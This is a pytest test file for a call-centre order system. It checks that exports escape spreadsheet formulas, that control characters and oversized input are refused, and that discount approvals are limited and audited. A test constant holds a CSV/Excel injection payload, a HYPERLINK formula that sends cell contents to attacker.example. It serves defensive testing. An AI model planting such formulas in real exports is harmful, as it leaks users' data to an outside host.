"""Hardening (issue 14), what comes in and what goes out: formula injection escaped in every export (item 3),
control characters refused on input and cleaned on export (item 4), size limits on bodies and free text
(item 8), NaN/Infinity and unknown references refused (item 12); on SQLite and PostgreSQL."""

from __future__ import annotations

import io

import openpyxl
import pandas as pd
import pytest

from adapters.store.orders import SqlOrders
from core.orders import MediaSurvey
from inputs.text import control_characters, export_cell
from reports.export import write_csv, write_xlsx
from tests.integration.console.test_auth_and_roles import HOME, new_customer
from tests.integration.console.test_business_api import order_body
from tests.integration.store.business_fixtures import T0, order_command, stocked_store

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


def _workbook(client, headers) -> openpyxl.Workbook:
    response = client.get("/api/reports/workbook.xlsx", headers=headers)
    assert response.status_code == 200, response.text
    return openpyxl.load_workbook(io.BytesIO(response.content))


def _cells(workbook: openpyxl.Workbook):
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def test_a_formula_in_an_order_is_text_in_the_workbook(client, auth, engine):
    _, customer = stocked_store(engine)
    body = order_body(customer.customer_id, survey={"channel": "CCTV-2", "program": "x", "airing_id": FORMULA})
    assert client.post("/api/orders", headers=auth["agent"], json=body).status_code == 201
    cells = _cells(_workbook(client, auth["sup"]))
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a live formula in the workbook"
    assert "'" + FORMULA in [c.value for c in cells]


def test_a_control_character_is_refused_on_input(client, auth, engine):
    _, customer = stocked_store(engine)
    body = order_body(customer.customer_id, survey={"channel": "CCTV-2", "program": "x", "airing_id": "AIR\u0001X"})
    response = client.post("/api/orders", headers=auth["agent"], json=body)
    assert response.status_code == 422 and "U+0001" in response.text
    assert SqlOrders(engine).list() == []
    named = client.post("/api/customers", headers=auth["agent"], json={"name": "王\u0000", "phones": ["13800138000"]})
    assert named.status_code == 422 and "U+0000" in named.text


def test_a_control_character_stored_before_is_cleaned_on_export(client, auth, engine):
    _, customer = stocked_store(engine)
    SqlOrders(engine).place(
        order_command(customer.customer_id, [("PAN-1", 1)], survey=MediaSurvey("CCTV-2", "x", "AIR\u0001X"))
    )
    values = [c.value for c in _cells(_workbook(client, auth["sup"]))]
    assert "AIRX" in values


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+2", "'=1+2"),
        ("+86 138", "'+86 138"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\r=1", "'\r=1"),
        ("a\u0001b", "ab"),
        ("\u0001=1", "'=1"),
        ("plain 文本", "plain 文本"),
        (-2, -2),
        (1.5, 1.5),
    ],
)
def test_export_cell_escapes_formulas_and_drops_control_characters(value, expected):
    assert export_cell(value) == expected


def test_every_file_export_escapes_cells(tmp_path):
    table = pd.DataFrame({"name": [FORMULA, "ok\u0002"], "=col": [1, 2]})
    csv = write_csv({"t": table}, tmp_path)[0].read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in csv and "'=col" in csv and "\u0002" not in csv
    sheet = openpyxl.load_workbook(write_xlsx({"t": table}, tmp_path / "t.xlsx")).active
    assert sheet["A2"].data_type == "s" and sheet["A2"].value == "'" + FORMULA and sheet["A3"].value == "ok"


def test_multiline_text_keeps_its_line_breaks_only():
    assert control_characters("a\nb\tc\r", multiline=True) == []
    assert control_characters("a\nb", multiline=False) == ["U+000A"]
    assert control_characters("a\u0085b\u0000", multiline=True) == ["U+0085", "U+0000"]


# --- item 8: size limits -------------------------------------------------------------------------------


def test_an_over_long_free_text_is_refused(client, auth, engine):
    _, customer = stocked_store(engine)
    body = order_body(customer.customer_id, survey={"channel": "CCTV-2", "program": "x" * 10_000, "airing_id": "A1"})
    response = client.post("/api/orders", headers=auth["agent"], json=body)
    assert response.status_code == 422 and "program" in response.text
    notes = client.patch(f"/api/customers/{customer.customer_id}", headers=auth["agent"], json={"notes": "n" * 5000})
    assert notes.status_code == 422


def test_a_huge_body_is_refused_before_it_is_parsed(client, auth):
    huge = '{"username": "' + "x" * (2 * 1024 * 1024) + '", "password": "p"}'
    response = client.post("/api/login", content=huge, headers={"Content-Type": "application/json"})
    assert response.status_code == 413 and "bytes" in response.json()["detail"]

    def chunks():  # no Content-Length: counted as it streams
        for _ in range(40):
            yield b"x" * 65536

    streamed = client.post("/api/login", content=chunks(), headers={"Content-Type": "application/json"})
    assert streamed.status_code == 413


# --- item 12: numbers and references --------------------------------------------------------------------


def _call(**extra):
    body = {"call_id": "c-1", "caller": "13800138000", "started_at": T0, "ended_at": T0 + 60, "summary": "问价"}
    body.update(extra)
    return body


@pytest.mark.parametrize("field, value", [("started_at", "NaN"), ("ended_at", "Infinity"), ("ended_at", "-Infinity")])
def test_nan_and_infinity_are_refused(client, auth, field, value):
    raw = '{"call_id": "c-1", "summary": "s", "started_at": %s, "ended_at": %s}' % (
        value if field == "started_at" else T0,
        value if field == "ended_at" else T0 + 60,
    )
    response = client.post(
        "/api/call-records", headers={**auth["agent"], "Content-Type": "application/json"}, content=raw
    )
    assert response.status_code == 422 and field in response.text, response.text


def test_a_call_record_of_an_unknown_customer_is_refused(client, auth):
    response = client.post("/api/call-records", headers=auth["agent"], json=_call(customer_id="C999999"))
    assert response.status_code == 422 and "C999999" in response.json()["detail"]
    customer = new_customer(client, auth["agent"], address=HOME)
    assert (
        client.post("/api/call-records", headers=auth["agent"], json=_call(customer_id=customer["id"])).status_code
        == 201
    )


# --- item 10: discounts -------------------------------------------------------------------------------------


def test_an_agent_cannot_give_a_full_discount_alone(client, auth, engine):
    _, customer = stocked_store(engine, price="50.00")
    everything = client.post(
        "/api/orders", headers=auth["agent"], json=order_body(customer.customer_id, 1, discount="50")
    )
    assert everything.status_code == 422 and "approval" in everything.json()["detail"]
    assert (
        client.post(
            "/api/orders", headers=auth["agent"], json=order_body(customer.customer_id, 1, discount="9.999")
        ).status_code
        == 422
    )
    small = client.post("/api/orders", headers=auth["agent"], json=order_body(customer.customer_id, 1, discount="5"))
    assert small.status_code == 201 and small.json()["total"] == "45.00"
    assert [str(o.total) for o in SqlOrders(engine).list()] == ["45.00"]


def test_a_supervisors_approval_lifts_the_limit_and_is_audited(client, auth, engine):
    from adapters.store.audit import SqlAudit
    from tests.integration.console.conftest import PASSWORD

    _, customer = stocked_store(engine, price="50.00")
    body = order_body(customer.customer_id, 1, discount="15")
    wrong = client.post(
        "/api/orders", headers=auth["agent"], json={**body, "approval": {"username": "sup", "password": "guess words"}}
    )
    assert wrong.status_code == 403
    by_agent = client.post(
        "/api/orders", headers=auth["agent"], json={**body, "approval": {"username": "agent2", "password": PASSWORD}}
    )
    assert by_agent.status_code == 403
    approved = client.post(
        "/api/orders", headers=auth["agent"], json={**body, "approval": {"username": "sup", "password": PASSWORD}}
    )
    assert approved.status_code == 201 and approved.json()["total"] == "35.00"
    beyond = client.post(
        "/api/orders",
        headers=auth["agent"],
        json={
            **order_body(customer.customer_id, 1, discount="50", call_id="call-10"),  # another call's order
            "approval": {"username": "sup", "password": PASSWORD},
        },
    )
    assert beyond.status_code == 422  # over the supervisor's own limit too
    row = SqlAudit(engine).entries(action="orders.create")[0]
    assert row.user == "agent" and "approved by sup" in row.detail
    assert [r.action for r in SqlAudit(engine).entries(entity="user", entity_id="sup")][:3] == [
        "auth.approval",
        "auth.approval",
        "auth.login_failed",
    ]  # a wrong approval counts towards the lockout


def test_a_page_upload_has_the_apis_limit_the_max_upload_setting(client, auth):
    """One limit for a schedule file, on the page as in the API: 6 MiB (more than the page once allowed alone)
    is read and judged by its rows; past ``max_upload`` the body is refused before it is read."""
    six_mib = b"airing_id\n" + b"x" * (6 * 2**20)
    for path in ("/office/airings", "/api/airings"):
        read = client.post(path, headers=auth["sup"], files={"file": ("big.csv", six_mib)})
        assert read.status_code == 422 and "larger than" not in read.text, path
    too_large = b"x" * (33 * 2**20)
    for path in ("/office/airings", "/api/airings"):
        refused = client.post(path, headers=auth["sup"], files={"file": ("huge.csv", too_large)})
        assert refused.status_code == 413 and str(32 * 2**20) in refused.text, path
